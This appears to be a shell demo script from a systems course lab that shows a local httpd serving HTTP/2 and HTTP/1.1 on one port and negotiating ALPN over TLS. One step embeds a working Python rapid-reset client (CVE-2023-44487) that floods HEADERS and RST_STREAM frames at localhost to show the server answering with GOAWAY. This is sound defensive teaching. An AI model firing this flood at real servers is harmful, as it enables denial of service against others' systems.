# Lab 13, the live demo: httpd speaks HTTP/2 on the port where it speaks HTTP/1.1. nghttp -v
# shows the frames (SETTINGS, HEADERS, DATA, WINDOW_UPDATE, GOAWAY), several streams share one
# connection, curl arrives by prior knowledge and by Upgrade (101 Switching Protocols), and a
# rapid-reset client is bounced with GOAWAY. Then a second httpd with a TLS port: openssl s_client
# shows ALPN agreeing on h2 or http/1.1, curl -v and nghttp the same from a client's view.
# Run it with: make demo LAB=13
source "$SYSLAB_ROOT/tools/demos/lib.sh"

HTTPD="$DEMO_BIN/httpd"
mkdir -p "$DEMO_TMP/www"
printf 'hello, HTTP/2\n' > "$DEMO_TMP/www/index.html"
head -c 300000 /dev/zero | tr '\0' 'x' > "$DEMO_TMP/www/big.txt"

background bash -c "exec '$HTTPD' --root '$DEMO_TMP/www' --keepalive-timeout 2000 \
  > '$DEMO_TMP/httpd.out' 2>&1"
wait_for "httpd to listen" "grep -q '^listening on' '$DEMO_TMP/httpd.out'"
PORT=$(sed -n 's/^listening on .*:\([0-9]*\)$/\1/p' "$DEMO_TMP/httpd.out")
export PORT

say "One port, two protocols: the first bytes decide. The HTTP/2 preface
(PRI * HTTP/2.0 ...) starts HTTP/2; anything else is lab 12's HTTP/1.1."

step "nghttp -nv: HTTP/2 with prior knowledge, every frame shown" \
  "our SETTINGS (100 streams, 64 KiB of headers, a 1 MiB window), the WINDOW_UPDATE on stream 0, HEADERS and DATA on stream 13 with END_STREAM" \
  nghttp -nv --timeout=5 "http://127.0.0.1:$PORT/"

step "three requests at once on one connection (nghttp -n -s)" \
  "the 300 ms /delay does not hold back the others: responseEnd of / comes first" \
  nghttp -ns --timeout=5 "http://127.0.0.1:$PORT/delay?ms=300" "http://127.0.0.1:$PORT/" \
  "http://127.0.0.1:$PORT/big.txt"

step "curl --http2-prior-knowledge: the same handlers, no change" \
  "< HTTP/2 200, the headers in lowercase, no Connection field" \
  curl -sv --max-time 5 --http2-prior-knowledge "http://127.0.0.1:$PORT/"

step "curl --http2: HTTP/1.1 first, asking to Upgrade: h2c" \
  "> Upgrade: h2c and HTTP2-Settings; < HTTP/1.1 101 Switching Protocols; then < HTTP/2 200 on the same connection" \
  curl -sv --max-time 5 --http2 "http://127.0.0.1:$PORT/headers"

step "a POST with a body stays HTTP/1.1 (the body would have to be read before the switch)" \
  "< HTTP/1.1 200, the body echoed" \
  curl -sv --max-time 5 --http2 -d 'a body' "http://127.0.0.1:$PORT/echo"

step "and plain HTTP/1.1 on the same port" \
  "< HTTP/1.1 200" \
  curl -sv --max-time 5 --http1.1 "http://127.0.0.1:$PORT/"

say "Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM, thousands of times. Each request costs
the server a handler call; the client pays nothing. After a burst of resets the session ends."

step_sh "a rapid-reset client: 2000 HEADERS + RST_STREAM pairs, raw frames" \
  "GOAWAY with error 2 (INTERNAL_ERROR) after about 100 resets, then the server closes" \
  'python3 - "$PORT" <<'"'"'PY'"'"'
import socket, struct, sys
frame = lambda t, f, s, p: struct.pack(">I", len(p))[1:] + bytes([t, f]) + struct.pack(">I", s) + p
lit = lambda n, v: b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
block = b"\x82\x86" + lit(b":authority", b"demo") + lit(b":path", b"/")
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
for sid in range(1, 4000, 2):
    out += frame(1, 5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
try:
    s.sendall(out)
except OSError as e:
    print("send:", e)
s.settimeout(5)
got = b""
try:
    while chunk := s.recv(65536):
        got += chunk
except OSError as e:
    print("recv:", e)
i = 0
while i + 9 <= len(got):
    n, t = int.from_bytes(got[i:i + 3], "big"), got[i + 3]
    if t == 7:
        print("GOAWAY last_stream_id", int.from_bytes(got[i + 9:i + 13], "big"),
              "error", int.from_bytes(got[i + 13:i + 17], "big"))
    i += 9 + n
PY'

step "and the server is still there for everyone else" \
  "< HTTP/2 200" \
  curl -s -o /dev/null -w '%{http_version} %{response_code}\n' --max-time 5 \
  --http2-prior-knowledge "http://127.0.0.1:$PORT/"

# ---- the TLS port: ALPN decides in the handshake -------------------------------------------------

HTTPD="$DEMO_BIN/httpd"
CERT="$DEMO_BIN/tls-cert.pem"
KEY="$DEMO_BIN/tls-key.pem"
mkdir -p "$DEMO_TMP/tls"
printf '<h1>syslab over TLS</h1>\n' > "$DEMO_TMP/tls/index.html"

say "httpd listens twice: its clear-text port as before, and --tls-port with the kit's
self-signed certificate for localhost (made by the build: $CERT). One set of loops serves both."

background bash -c "exec '$HTTPD' --root '$DEMO_TMP/tls' --tls-port 0 --cert '$CERT' \
  --key '$KEY' --quiet > '$DEMO_TMP/httpd-tls.out' 2> '$DEMO_TMP/httpd-tls.err'"
wait_for "httpd to listen" "grep -q '^listening on' '$DEMO_TMP/httpd-tls.out'"
# "listening on 127.0.0.1:PORT and 127.0.0.1:TLSPORT (TLS)"
TLS_PORT=$(sed -n 's/^listening on .* and .*:\([0-9]*\) (TLS)$/\1/p' "$DEMO_TMP/httpd-tls.out")
export CERT TLS_PORT

step "the line httpd prints: both ports" \
  "the second address is the TLS one; a test finds it the same way" \
  cat "$DEMO_TMP/httpd-tls.out"

step_sh "openssl s_client -alpn h2: the handshake alone, the client offering only h2" \
  "\"ALPN protocol: h2\", the protocol (TLSv1.3), the certificate verified (return code 0)" \
  'openssl s_client -connect 127.0.0.1:$TLS_PORT -servername localhost -CAfile "$CERT" \
     -alpn h2 < /dev/null 2>/dev/null |
     grep -E "^(ALPN protocol|No ALPN|New, TLS|Verify return code|Protocol  )" | sort -u'

step_sh "the same client offering http/1.1 and h2, then nothing we speak" \
  "the server's order decides (h2); with neither, the handshake fails (no_application_protocol),
   and httpd's stderr names the connection it closed" \
  'openssl s_client -connect 127.0.0.1:$TLS_PORT -servername localhost -CAfile "$CERT" \
     -alpn http/1.1,h2 < /dev/null 2>/dev/null | grep "^ALPN protocol"
   { openssl s_client -connect 127.0.0.1:$TLS_PORT -servername localhost -CAfile "$CERT" \
       -alpn spdy/3.1 < /dev/null 2>&1 || true; } | grep -o "no application protocol" | head -1
   cat "$DEMO_TMP/httpd-tls.err"'

step_sh "curl -v --http2 over TLS: the client's view of the same agreement" \
  "\"ALPN: offers h2,http/1.1\", \"ALPN: server accepted h2\", then HTTP/2 200" \
  'curl -sv --http2 --max-time 5 --cacert "$CERT" \
     --resolve localhost:$TLS_PORT:127.0.0.1 https://localhost:$TLS_PORT/ 2>&1 |
     grep -E "ALPN|SSL connection using|^< HTTP|^<h1>"'

step_sh "curl -v --http1.1 over TLS: the same port, the other protocol" \
  "\"ALPN: offers http/1.1\", \"server accepted http/1.1\", then HTTP/1.1 200 OK" \
  'curl -sv --http1.1 --max-time 5 --cacert "$CERT" \
     --resolve localhost:$TLS_PORT:127.0.0.1 https://localhost:$TLS_PORT/ 2>&1 |
     grep -E "ALPN|^< HTTP|^<h1>"'

step_sh "nghttp -v over TLS: the frames inside the encrypted connection" \
  "\"The negotiated protocol: h2\", both SETTINGS, HEADERS with :status 200, DATA, GOAWAY" \
  'nghttp -v https://127.0.0.1:$TLS_PORT/ |
     grep -E "negotiated protocol|(send|recv) (SETTINGS|HEADERS|DATA|GOAWAY) frame|:status|<h1>"'

say "Over TLS the protocol was chosen before the first HTTP byte, so httpd does not sniff: a
client that agreed on http/1.1 and sends the HTTP/2 preface gets HTTP/1.1's answer (505), and an
\"Upgrade: h2c\" is ignored there (RFC 9113 §3.1)."
